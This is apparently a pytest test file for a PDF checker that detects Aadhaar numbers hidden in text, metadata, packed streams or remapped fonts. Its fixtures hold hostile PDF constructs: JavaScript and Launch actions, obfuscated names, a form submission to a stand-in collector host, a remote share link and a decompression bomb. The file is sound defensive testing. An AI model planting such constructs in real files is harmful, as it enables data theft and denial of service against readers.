from __future__ import annotations

import base64
import contextlib
import zlib

import pytest

from odop_core.files import pdf, pdf_reader
from odop_core.files.errors import AadhaarFound, BadFile
from tests.pdfs import paper, pdf_of

NUMBER = "234123412346"
EMPTY_PAGE = (
    b"<< /Type /Catalog /Pages 2 0 R >>",
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
)


@pytest.fixture
def in_this_process(monkeypatch: pytest.MonkeyPatch) -> None:
    """The same reader, without a process of its own, which takes longer than to read."""
    monkeypatch.setattr(pdf, "_answer_about", pdf_reader.answer_about)


@pytest.mark.usefixtures("in_this_process")
@pytest.mark.parametrize("compress", [True, False])
@pytest.mark.parametrize(
    "text",
    [
        f"BT ({NUMBER}) Tj ET",
        "BT (Aadhaar: 2341 2341 2346) Tj ET",
        "BT [(2341) -250 (2341) -250 (2346)] TJ ET",
        "BT (2341) Tj 40 0 Td (2341) Tj 40 0 Td (2346) Tj ET",
        "BT [" + "".join(f"({digit})" for digit in NUMBER) + "] TJ ET",
        f"BT <{NUMBER.encode().hex()}> Tj ET",
        f"BT <{NUMBER.encode('utf-16-be').hex()}> Tj ET",
        f"BT (\\(No. {NUMBER}\\)) Tj ET",
    ],
)
def test_readable_aadhaar_number_is_found(text: str, compress: bool) -> None:
    with pytest.raises(AadhaarFound):
        pdf.check_pdf(paper(text, compress=compress))


def test_aadhaar_number_in_the_title_is_found() -> None:
    with pytest.raises(AadhaarFound):
        pdf.check_pdf(paper(extra=f"/Title (Card {NUMBER})".encode()))


@pytest.mark.parametrize(
    "said",
    [
        "<dc:title>2341 2341 2346</dc:title>",
        "<rdf:Description dc:title='2341-2341-2346'/>",
        "<b>2341</b><b>2341</b><b>2346</b>",
        "<dc:title>&#50;34123412346</dc:title>",
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_aadhaar_number_in_what_the_file_says_of_itself_is_found(said: str, encoding: str) -> None:
    """XMP (ISO 16684-1), which scanners and office programs fill in."""
    # given
    words = f"<x:xmpmeta xmlns:x='adobe:ns:meta/'>{said}</x:xmpmeta>".encode(encoding)
    stream = b"<< /Type /Metadata /Subtype /XML /Length %d >>\nstream\n%s\nendstream" % (len(words), words)

    # when / then
    with pytest.raises(AadhaarFound):
        pdf.check_pdf(
            pdf_of(
                b"<< /Type /Catalog /Pages 2 0 R /Metadata 3 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>", stream
            )
        )


def test_paper_without_one_is_fine() -> None:
    pdf.check_pdf(paper("BT (Handloom Mark HM-1234, valid until 31-03-2027, 234123412345) Tj ET"))


@pytest.mark.usefixtures("in_this_process")
@pytest.mark.parametrize(
    "extra",
    [b"/OpenAction << /S /JavaScript /JS (alert) >>", b"/AA << /S /Launch >>", b"/Names << /EmbeddedFiles 5 0 R >>"],
)
def test_paper_that_runs_or_carries_something_is_refused(extra: bytes) -> None:
    with pytest.raises(BadFile, match="program"):
        pdf.check_pdf(paper(extra=extra))


def test_program_in_a_packed_object_is_found() -> None:
    with pytest.raises(BadFile, match="program"):
        pdf.check_pdf(paper("<< /S /JavaScript /JS (app.alert) >>"))


def test_locked_paper_is_refused() -> None:
    with pytest.raises(BadFile, match="locked"):
        pdf.check_pdf(paper(extra=b"/Encrypt 9 0 R"))


def test_paper_that_was_cut_off_is_refused() -> None:
    with pytest.raises(BadFile, match="not complete"):
        pdf.check_pdf(paper()[:-10])


def test_paper_that_unpacks_without_end_is_refused() -> None:
    # given
    packed = zlib.compress(b"\0" * 10_000_000)
    stream = b"<< /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (len(packed), packed)

    # when / then
    with pytest.raises(BadFile, match="unpacks"):
        pdf.check_pdf(pdf_of(b"<< /Type /Catalog >>", *[stream] * 8))


# The kinds below are those of public collections of hostile PDFs and of readers' bug reports: names in disguise, text
# packed twice or numbered by its font, and files that cost a reader more than they are large.


@pytest.mark.usefixtures("in_this_process")
@pytest.mark.parametrize(
    "extra",
    [
        b"/OpenAction << /S /J#61vaScript /#4a#53 (alert) >>",
        b"/AA << /S /L#61unch >>",
        b"/Names << /Emb#65ddedFiles 5 0 R >>",
        b"/AA << /WC << /S /SubmitForm /F (https://collector.example) >> >>",
        b"/OpenAction << /S /GoToR /F (//collector.example/share) >>",
        b"/OpenAction << /S /Import#44ata /F (form.fdf) >>",
    ],
)
def test_names_in_disguise_are_read(extra: bytes) -> None:
    with pytest.raises(BadFile, match="program"):
        pdf.check_pdf(paper(extra=extra))


@pytest.mark.usefixtures("in_this_process")
def test_a_program_in_an_object_stream_is_found() -> None:
    # given
    inner = b"6 0 << /S /J#61vaScript /JS (app.alert) >>"
    packed = zlib.compress(inner)
    objects = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (
        len(packed),
        packed,
    )

    # when / then
    with pytest.raises(BadFile, match="program"):
        pdf.check_pdf(pdf_of(b"<< /Type /Catalog >>", objects))


def _stream(content: bytes, filters: bytes) -> bytes:
    return b"<< /Filter %s /Length %d >>\nstream\n%s\nendstream" % (filters, len(content), content)


@pytest.mark.usefixtures("in_this_process")
@pytest.mark.parametrize("name", ["ascii85", "asciihex", "twice"])
def test_a_number_is_found_however_its_stream_is_packed(name: str) -> None:
    # given
    text = f"BT ({NUMBER}) Tj ET".encode()
    packed = {
        "ascii85": _stream(base64.a85encode(text) + b"~>", b"/ASCII85Decode"),
        "asciihex": _stream(text.hex().encode() + b">", b"/ASCIIHexDecode"),
        "twice": _stream(zlib.compress(text).hex().encode() + b">", b"[/ASCIIHexDecode /FlateDecode]"),
    }[name]

    # when / then
    with pytest.raises(AadhaarFound):
        pdf.check_pdf(pdf_of(*EMPTY_PAGE, packed))


@pytest.mark.usefixtures("in_this_process")
def test_a_number_is_found_behind_much_padding() -> None:
    # given
    text = b"% padding " + b"x" * 6_000_000 + f"\nBT ({NUMBER}) Tj ET".encode()

    # when / then
    with pytest.raises(AadhaarFound):
        pdf.check_pdf(pdf_of(*EMPTY_PAGE, _stream(zlib.compress(text), b"/FlateDecode")))


@pytest.mark.usefixtures("in_this_process")
def test_a_number_is_found_whose_font_numbers_its_letters_at_will() -> None:
    # given: glyph 1 is "2", glyph 2 is "3", and so on, as word processors write it
    glyphs = "".join(f"{'2341'.index(digit) + 1:04x}" for digit in NUMBER.replace("6", "1")[:11]) + "0005"
    to_unicode = (
        b"/CIDInit /ProcSet findresource begin 12 dict begin begincmap 1 begincodespacerange <0000> <FFFF> "
        b"endcodespacerange 5 beginbfchar <0001> <0032> <0002> <0033> <0003> <0034> <0004> <0031> <0005> <0036> "
        b"endbfchar endcmap end end"
    )
    content = pdf_of(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> >> >>",
        _stream(zlib.compress(f"BT /F1 12 Tf 10 10 Td <{glyphs}> Tj ET".encode()), b"/FlateDecode"),
        b"<< /Type /Font /Subtype /Type0 /BaseFont /A /Encoding /Identity-H"
        b" /DescendantFonts [6 0 R] /ToUnicode 7 0 R >>",
        b"<< /Type /Font /Subtype /CIDFontType2 /BaseFont /A /CIDSystemInfo << /Registry (Adobe) /Ordering (Identity)"
        b" /Supplement 0 >> /DW 500 >>",
        _stream(zlib.compress(to_unicode), b"/FlateDecode"),
    )

    # when / then
    with pytest.raises(AadhaarFound):
        pdf.check_pdf(content)


def test_what_nobody_can_unpack_is_refused() -> None:
    with pytest.raises(BadFile, match="nobody can look into"):
        pdf.check_pdf(pdf_of(*EMPTY_PAGE, _stream(b"secret", b"/Unheard-Of")))


@pytest.mark.parametrize("word", [b"stream\n", b"stream endstream ", b"<<", b"(", b"[", b"1 0 obj "])
def test_a_file_of_one_word_over_and_over_ends_soon(word: bytes) -> None:
    # given: a megabyte, which took a quadratic search hours
    content = b"%PDF-1.4\n" + word * (1_000_000 // len(word)) + b"\n%%EOF"

    # when / then: refused or found harmless, but never stuck
    with contextlib.suppress(BadFile):
        pdf.check_pdf(content)
